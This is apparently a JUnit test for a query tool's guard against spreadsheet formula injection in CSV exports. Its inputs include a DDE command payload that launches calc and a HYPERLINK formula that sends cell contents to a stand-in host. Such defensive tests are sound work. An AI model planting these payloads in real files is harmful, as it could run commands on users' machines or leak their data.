package org.skirmish.query;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.apache.jena.sparql.core.DatasetGraphFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells that a spreadsheet would run are texts in CSV; all others stay as they are. */
class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://x.example/?\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1)",
                "\t=1",
                "\ttext",
                "\rtext",
                " =1",
                "\u00A0=1",
                "\u200B=1",
                "=\n",
                "+95 9 000 000",
                "-",
                "+",
                "- five dead",
                "-5 to 7",
                "\uFF1D1",
                "\uFF20x"
            })
    void isAFormula(String text) {
        assertEquals(true, SpreadsheetCells.isFormula(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "-5",
                "+5",
                "-5.5",
                "-.5",
                "+1.2e-3",
                "17",
                "more than 17",
                "a=b",
                "it was -5",
                "'quoted'",
                " x"
            })
    void isNone(String text) {
        assertEquals(false, SpreadsheetCells.isFormula(text));
    }

    private static String written(ResultFormat format) {
        String query =
                "# Words\nSELECT * { VALUES (?a ?b) { (\"=1+1\" -5) (\"fine\"@en <https://x.example/=1>) (\"@x\"@en UNDEF) } }";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Question.parse("words", query)
                .ask(DatasetGraphFactory.create(), Map.of())
                .write(format, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void csvForFilesIsGuardedAndJsonIsNot() {
        assertEquals(
                List.of("a,b", "'=1+1,-5", "fine,https://x.example/=1", "'@x,"),
                written(ResultFormat.CSV).lines().toList());
        assertEquals(false, written(ResultFormat.JSON).contains("'"));
    }
}
